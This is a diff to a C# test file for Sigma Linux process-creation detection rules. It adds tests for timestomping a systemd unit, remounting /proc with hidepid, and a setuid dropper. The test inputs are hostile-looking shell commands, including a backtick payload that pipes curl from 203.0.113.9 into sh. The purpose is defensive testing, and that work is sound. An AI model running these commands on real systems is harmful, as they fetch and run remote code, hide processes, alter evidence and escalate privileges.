@@ -23,7 +23,7 @@ public sealed class SigmaHqLinuxProcessCreationTests
     public void Folder_LoadsEveryRuleButThoseReadingALogonSession()
     {
         var set = Set.Value;
-        Assert.Equal(58, set.Rules.Count);
+        Assert.Equal(64, set.Rules.Count);
         Assert.All(set.Rules, r => Assert.Equal([EventKinds.RuntimeProcess], r.Kinds));
 
         var failures = set.Errors.ToDictionary(e => Path.GetFileNameWithoutExtension(e.File), e => e.Reason, StringComparer.Ordinal);
@@ -226,6 +226,23 @@ public sealed class SigmaHqLinuxProcessCreationTests
         Assert.False(rule.Fires(Format, Exec("/usr/bin/id", "-Gn `curl 203.0.113.9|sh`", "/bin/bash", "-c \"id -Gn `curl 203.0.113.9|sh`\"")));
         Assert.True(RuleTesting.One(SigmaIdp.RuleText("product: linux\ncategory: process_creation", "selection:\n  ParentImage|endswith: /bash\n  CommandLine|contains: 'id -Gn `'\ncondition: selection"))
             .Fires(Format, Exec("/usr/bin/id", "-Gn `curl 203.0.113.9|sh`", "/bin/bash", "-c \"id -Gn `curl 203.0.113.9|sh`\"")));
+    }
+
+    [Fact]
+    public void Timestomp_AndHiddenProcesses_OnTheNode()
+    {
+        var touch = Rule("31545105-3444-4584-bebf-c466353230d2");
+        var hidepid = Rule("ec52985a-d024-41e3-8ff6-14169039a0b3");
+        var setuid = Rule("c21c4eaa-ba2e-419a-92b2-8371703cbe21");
+
+        Assert.True(touch.Fires(Format, Exec("/usr/bin/touch", "-t 202001010000 /etc/systemd/system/kworkerd.service", pod: false)));
+        Assert.False(touch.Fires(Format, Exec("/usr/bin/touch", "-t 202001010000 /etc/systemd/system/kworkerd.service.bak", pod: false)));
+        Assert.True(hidepid.Fires(Format, Exec("/usr/bin/mount", "-o remount,rw,hidepid=2 /proc", pod: false)));
+        Assert.False(hidepid.Fires(Format, Exec("/usr/bin/mount", "-o remount,rw /proc", pod: false)));
+
+        // One shell running both, as a dropper writes it: sh -c "chown root /tmp/x; chmod u+s /tmp/x".
+        Assert.True(setuid.Fires(Format, Exec("/bin/sh", "-c \"chown root /tmp/.x; chmod u+s /tmp/.x\"")));
+        Assert.False(setuid.Fires(Format, Exec("/bin/sh", "-c \"chown root /tmp/.x; chmod 755 /tmp/.x\"")));
     }
 
     [Fact]
